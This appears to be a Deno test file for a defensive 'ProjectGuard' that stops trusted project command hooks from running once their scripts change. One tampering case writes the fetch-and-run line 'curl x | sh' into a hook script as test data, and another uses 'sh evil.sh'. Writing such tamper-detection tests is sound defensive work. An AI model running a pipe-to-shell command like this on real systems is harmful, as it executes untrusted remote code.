// ProjectGuard: before a trusted project's command hook runs, the files it
// runs are confirmed to be the ones that were trusted.

import { deepEqual, equal, match, ok } from "node:assert/strict";
import { join } from "node:path";
import type { CommandGateVerdict, ShellHookSpec } from "../../mod.ts";
import { tree } from "./_project_tree.ts";

const CONFIG = JSON.stringify({
  hooks: {
    PreToolUse: [{ name: "guard", command: "sh .hookgate/hooks/guard.sh" }],
    Stop: [{ name: "other", command: "sh tools/other.sh" }],
  },
});

/** The loaded command hooks by name, and the project's guard. */
async function guarded(t: Awaited<ReturnType<typeof tree>>) {
  const config = await t.load({ trust: "all" });
  const guard = config.project?.guard;
  ok(guard !== undefined, "a trusted project has a guard");
  const hook = (event: "PreToolUse" | "Stop") => config.hooks[event]![0]! as ShellHookSpec;
  return { guard, guardHook: hook("PreToolUse"), otherHook: hook("Stop") };
}

function skipped(verdict: CommandGateVerdict | undefined): string {
  return verdict !== undefined && "skip" in verdict ? verdict.skip : "";
}

Deno.test("ProjectGuard.check() lets a hook run while nothing it runs changed, also after a touch", async () => {
  await using t = await tree({
    ".hookgate/config.jsonc": CONFIG,
    ".hookgate/hooks/guard.sh": "exit 0\n",
    "tools/other.sh": "exit 0\n",
  });
  const { guard, guardHook } = await guarded(t);
  // A file changed within the last seconds is compared by content (its stat could not tell a second change).
  equal(await guard.check(guardHook), undefined);
  equal(await guard.check({ command: "sh .hookgate/hooks/guard.sh", source: join(t.home, "config.jsonc") }), undefined);
  // Touched, not changed: read again, and still trusted.
  await Deno.utime(join(t.project, ".hookgate/hooks/guard.sh"), new Date(), new Date(2001, 0, 1));
  equal(await guard.check(guardHook), undefined);
  equal(await guard.check(guardHook), undefined);
  equal(guard.changed, undefined);
});

Deno.test("ProjectGuard.check() holds every project hook back from the moment a file one runs changed", async (t) => {
  const changes: [string, (dir: string) => Promise<void>][] = [
    ["a hook script", (dir) => Deno.writeTextFile(join(dir, ".hookgate/hooks/guard.sh"), "curl x | sh\n")],
    ["a helper beside it", (dir) => Deno.writeTextFile(join(dir, ".hookgate/hooks/lib.sh"), "exit 1\n")],
    ["a file added beside it", (dir) => Deno.writeTextFile(join(dir, ".hookgate/hooks/new.sh"), "exit 0\n")],
    ["a link's target", (dir) => Deno.writeTextFile(join(dir, "tools/target.sh"), "exit 1\n")],
  ];
  for (const [label, change] of changes) {
    await t.step(label, async () => {
      await using tr = await tree({
        ".hookgate/config.jsonc": CONFIG,
        ".hookgate/hooks/guard.sh": ". ./lib.sh\n",
        ".hookgate/hooks/lib.sh": "exit 0\n",
        "tools/other.sh": "exit 0\n",
        "tools/target.sh": "exit 0\n",
      });
      await tr.link(".hookgate/hooks/linked.sh", "../../tools/target.sh");
      const { guard, guardHook, otherHook } = await guarded(tr);
      const heard: string[] = [];
      guard.onChange(() => heard.push("changed"));
      await change(tr.project);
      const verdict = skipped(await guard.check(guardHook));
      match(verdict, /changed since it was trusted/);
      match(verdict, new RegExp(`hook-run trust --cwd ${tr.project}`));
      // From that moment every hook of the project is held back, at once.
      match(skipped(guard.check(otherHook) as CommandGateVerdict), /changed since it was trusted/);
      deepEqual(heard, ["changed"]);
      ok(guard.changed !== undefined);
    });
  }
});

Deno.test("ProjectGuard.check() holds back a project hook that was not part of what was trusted", async () => {
  await using t = await tree({ ".hookgate/config.jsonc": CONFIG, ".hookgate/hooks/guard.sh": "exit 0\n" });
  const { guard, guardHook } = await guarded(t);
  match(skipped(guard.check({ ...guardHook, command: "sh evil.sh" }) as CommandGateVerdict), /changed since/);
});
